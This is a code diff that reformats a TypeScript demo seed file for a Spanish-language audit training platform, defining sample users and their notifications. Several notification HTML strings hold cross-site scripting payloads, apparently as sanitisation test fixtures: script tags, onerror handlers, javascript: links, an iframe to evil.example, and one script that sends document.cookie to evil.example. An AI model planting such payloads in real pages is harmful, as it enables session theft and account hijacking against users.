@@ -92,7 +92,11 @@ function person(id: number, who: Person, at: At): UserRecord {
 
 function ana(at: At): UserRecord {
   return {
-    ...person(DEMO.ana, { first: "Ana", last: "Martínez", points: 1310, position: 2, profile: "Auditor Junior", avatar: files.avatarAna }, at),
+    ...person(
+      DEMO.ana,
+      { first: "Ana", last: "Martínez", points: 1310, position: 2, profile: "Auditor Junior", avatar: files.avatarAna },
+      at,
+    ),
     nickname: "Anita",
     certificates: [
       {
@@ -116,7 +120,12 @@ function ana(at: At): UserRecord {
         file: null,
       },
     ],
-    university: { university_id: 1, university_name: "Universidad Nacional Autónoma de México", university_acronym: "UNAM", degree: "Licenciatura en Contaduría" },
+    university: {
+      university_id: 1,
+      university_name: "Universidad Nacional Autónoma de México",
+      university_acronym: "UNAM",
+      degree: "Licenciatura en Contaduría",
+    },
     languages: [
       { language_id: 1, proficiency: "Nativo" },
       { language_id: 2, proficiency: "Intermedio" },
@@ -134,7 +143,11 @@ function ana(at: At): UserRecord {
 
 function carlos(at: At): UserRecord {
   return {
-    ...person(DEMO.carlos, { first: "Carlos", last: "Ruiz", points: 2750, position: 4, profile: "Líder Auditor", avatar: files.avatarCarlos }, at),
+    ...person(
+      DEMO.carlos,
+      { first: "Carlos", last: "Ruiz", points: 2750, position: 4, profile: "Líder Auditor", avatar: files.avatarCarlos },
+      at,
+    ),
     is_leader: true,
     certificates: [
       {
@@ -148,7 +161,12 @@ function carlos(at: At): UserRecord {
         file: null,
       },
     ],
-    university: { university_id: 2, university_name: "Instituto Tecnológico Autónomo de México", university_acronym: "ITAM", degree: "Maestría en Auditoría" },
+    university: {
+      university_id: 2,
+      university_name: "Instituto Tecnológico Autónomo de México",
+      university_acronym: "ITAM",
+      degree: "Maestría en Auditoría",
+    },
     languages: [
       { language_id: 1, proficiency: "Nativo" },
       { language_id: 2, proficiency: "Avanzado" },
@@ -183,20 +201,84 @@ type NotificationSeed = Omit<NotificationRecord, "id" | "user_id" | "deleted">;
 function demoNotifications(at: At): Record<number, NotificationSeed[]> {
   return {
     [DEMO.ana]: [
-      { title: "Nueva actividad disponible", short_description: "<p>Ya puedes ver <strong>Matriz de riesgos en 6 pasos</strong> en la Formación Requerida.</p>", body: "<p>Ya puedes ver <strong>Matriz de riesgos en 6 pasos</strong>. Dura dos minutos y suma 20 puntos.</p>", date: at(0, 2), seen: false },
-      { title: "Recordatorio de tu ruta", short_description: "<p>Te faltan <em>pocas actividades</em> para completar la Formación Requerida.</p><script>alert('xss')</script>", body: "<p>Continúa con el <b>Taller de riesgos</b>.</p><iframe src=\"https://evil.example/\"></iframe>", date: at(1), seen: false },
-      { title: "Insignia obtenida", short_description: "<p>¡Ganaste la insignia <b>Ruta Inicial completa</b>! <img src=x onerror=alert(1)></p>", body: "<p>Consulta tus insignias en <a href=\"/achievements\">Avance</a>.</p><img src=\"x\" onerror=\"alert(document.cookie)\">", date: at(3), seen: false },
-      { title: "Encuesta de satisfacción", short_description: "<p>Cuéntanos qué te pareció el curso: <a href=\"javascript:alert(document.cookie)\">responder encuesta</a> <span onmouseover=\"alert(1)\">aquí</span>.</p>", body: "<p>La encuesta toma dos minutos.</p><a href=\"javascript:alert(1)\" onclick=\"alert(2)\">Responder</a>", date: at(7), seen: true },
-      { title: "Bienvenida", short_description: "<p>Bienvenida a la Academia de Auditoría Interna.</p>", body: "<p>Explora tus rutas de formación y suma puntos.</p>", date: at(120), seen: true },
+      {
+        title: "Nueva actividad disponible",
+        short_description: "<p>Ya puedes ver <strong>Matriz de riesgos en 6 pasos</strong> en la Formación Requerida.</p>",
+        body: "<p>Ya puedes ver <strong>Matriz de riesgos en 6 pasos</strong>. Dura dos minutos y suma 20 puntos.</p>",
+        date: at(0, 2),
+        seen: false,
+      },
+      {
+        title: "Recordatorio de tu ruta",
+        short_description:
+          "<p>Te faltan <em>pocas actividades</em> para completar la Formación Requerida.</p><script>alert('xss')</script>",
+        body: '<p>Continúa con el <b>Taller de riesgos</b>.</p><iframe src="https://evil.example/"></iframe>',
+        date: at(1),
+        seen: false,
+      },
+      {
+        title: "Insignia obtenida",
+        short_description: "<p>¡Ganaste la insignia <b>Ruta Inicial completa</b>! <img src=x onerror=alert(1)></p>",
+        body: '<p>Consulta tus insignias en <a href="/achievements">Avance</a>.</p><img src="x" onerror="alert(document.cookie)">',
+        date: at(3),
+        seen: false,
+      },
+      {
+        title: "Encuesta de satisfacción",
+        short_description:
+          '<p>Cuéntanos qué te pareció el curso: <a href="javascript:alert(document.cookie)">responder encuesta</a> <span onmouseover="alert(1)">aquí</span>.</p>',
+        body: '<p>La encuesta toma dos minutos.</p><a href="javascript:alert(1)" onclick="alert(2)">Responder</a>',
+        date: at(7),
+        seen: true,
+      },
+      {
+        title: "Bienvenida",
+        short_description: "<p>Bienvenida a la Academia de Auditoría Interna.</p>",
+        body: "<p>Explora tus rutas de formación y suma puntos.</p>",
+        date: at(120),
+        seen: true,
+      },
     ],
     [DEMO.carlos]: [
-      { title: "Tu equipo avanza", short_description: "<p><strong>Ana Martínez</strong> terminó la Formación Inicial.</p>", body: "<p>Revisa el avance de tu equipo en tu perfil de líder.</p>", date: at(0, 5), seen: false },
-      { title: "Material compartido", short_description: "<p>Tu material <em>Video: entrevistas de auditoría</em> ya está visible.</p><img src=x onerror=alert('leader')>", body: "<p>Gracias por compartir.</p><script>document.location='https://evil.example/?c='+document.cookie</script>", date: at(2), seen: false },
-      { title: "Evaluaciones pendientes", short_description: "<p>Tienes 2 evaluaciones del líder por completar.</p>", body: "<p>Complétalas antes del cierre del mes.</p>", date: at(6), seen: true },
+      {
+        title: "Tu equipo avanza",
+        short_description: "<p><strong>Ana Martínez</strong> terminó la Formación Inicial.</p>",
+        body: "<p>Revisa el avance de tu equipo en tu perfil de líder.</p>",
+        date: at(0, 5),
+        seen: false,
+      },
+      {
+        title: "Material compartido",
+        short_description:
+          "<p>Tu material <em>Video: entrevistas de auditoría</em> ya está visible.</p><img src=x onerror=alert('leader')>",
+        body: "<p>Gracias por compartir.</p><script>document.location='https://evil.example/?c='+document.cookie</script>",
+        date: at(2),
+        seen: false,
+      },
+      {
+        title: "Evaluaciones pendientes",
+        short_description: "<p>Tienes 2 evaluaciones del líder por completar.</p>",
+        body: "<p>Complétalas antes del cierre del mes.</p>",
+        date: at(6),
+        seen: true,
+      },
     ],
     [DEMO.lucia]: [
-      { title: "¡Bienvenida!", short_description: "<p>Empieza por la <strong>Formación Inicial</strong>.</p>", body: "<p>Tu primera actividad te espera.</p>", date: at(0, 1), seen: false },
-      { title: "Completa tu perfil", short_description: "<p>Agrega tu foto y tus idiomas. <a href=\"javascript:void(fetch('https://evil.example'))\" onclick=\"alert(1)\">Ir al perfil</a></p>", body: "<p>Un perfil completo ayuda a tu líder.</p>", date: at(0, 1), seen: false },
+      {
+        title: "¡Bienvenida!",
+        short_description: "<p>Empieza por la <strong>Formación Inicial</strong>.</p>",
+        body: "<p>Tu primera actividad te espera.</p>",
+        date: at(0, 1),
+        seen: false,
+      },
+      {
+        title: "Completa tu perfil",
+        short_description:
+          '<p>Agrega tu foto y tus idiomas. <a href="javascript:void(fetch(\'https://evil.example\'))" onclick="alert(1)">Ir al perfil</a></p>',
+        body: "<p>Un perfil completo ayuda a tu líder.</p>",
+        date: at(0, 1),
+        seen: false,
+      },
     ],
   };
 }
